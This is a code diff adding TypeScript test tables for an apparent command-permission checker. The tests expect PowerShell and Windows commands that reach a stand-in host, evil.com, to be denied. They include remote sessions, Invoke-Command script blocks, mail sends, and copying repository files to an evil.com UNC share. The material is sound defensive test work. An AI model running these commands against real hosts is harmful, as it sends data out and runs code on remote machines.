@@ -201,3 +201,46 @@ describe('file cmdlets bound as PowerShell binds them: value parameters, named -
     ['New-Item -ItemType SymbolicLink -Path x -Target C:\\Windows', 'deny'],
   ]);
 });
+
+describe('hosts the network cmdlets and Windows tools reach, and the server of a UNC path', () => {
+  table([
+    ['Test-Connection evil.com', 'deny'],
+    ['Test-Connection -TargetName:evil.com -Count 2', 'deny'],
+    ['Test-NetConnection evil.com', 'deny'],
+    ['tnc evil.com -Port 443', 'deny'],
+    ['tracert evil.com', 'deny'],
+    ['pathping -n evil.com', 'deny'],
+    ['Invoke-Command -ComputerName evil.com -ScriptBlock {hostname}', 'deny'],
+    ['icm -cn evil.com {hostname}', 'deny'],
+    ['Invoke-Command -ConnectionUri http://evil.com:5985/wsman {hostname}', 'deny'],
+    ['Enter-PSSession evil.com', 'deny'],
+    ['etsn evil.com', 'deny'],
+    ['New-PSSession -ComputerName evil.com', 'deny'],
+    ['nsn evil.com', 'deny'],
+    ['Test-WSMan evil.com', 'deny'],
+    ['Get-CimInstance Win32_OS -ComputerName evil.com', 'deny'],
+    ['gcim Win32_OS -cn evil.com', 'deny'],
+    ['Get-WmiObject Win32_OS -ComputerName evil.com', 'deny'],
+    ['Get-Service -ComputerName evil.com', 'deny'],
+    ['Send-MailMessage -SmtpServer evil.com -To a@b.c -From a@b.c -Subject x', 'deny'],
+    ['Resolve-DnsName x -Server evil.com', 'deny'],
+    ['mstsc /v:evil.com', 'deny'],
+    ['mstsc /v:evil.com:3389', 'deny'],
+    ['Test-Connection $h', 'ask'],
+    ['gc \\\\evil.com\\share\\a', 'deny'],
+    ['Get-Content //evil.com/share/a', 'deny'],
+    ['Copy-Item C:\\w\\repo\\a -Destination \\\\evil.com\\share\\a', 'deny'],
+    ['echo x > \\\\evil.com\\s\\a', 'deny'],
+    ['gc \\\\evil.com@SSL@443\\DavWWWRoot\\a', 'deny'],
+    ['gc \\\\localhost\\C$\\w\\a', 'allow'],
+    ['gc \\\\ok.example\\share\\a', 'allow'],
+    ['Test-Connection ok.example -Count 2', 'allow'],
+    ['icm {hostname}', 'allow'],
+    ['Get-CimInstance Win32_OS', 'allow'],
+    ['Compress-Archive -Path a -DestinationPath b.zip -CompressionLevel Optimal', 'allow'],
+  ]);
+  it.each([['read', '\\\\evil.com\\share\\a', 'deny'], ['edit', '//evil.com/share/a', 'deny']] as ['read' | 'edit', string, DecisionKind][])(
+    'a %s of %s: %s', (kind, path, expected) => {
+      expectDecision({ deny: ['Domain(evil.com)'], allow: ['Read(**)', 'Edit(**)'] }, kind, path, expected, WIN);
+    });
+});
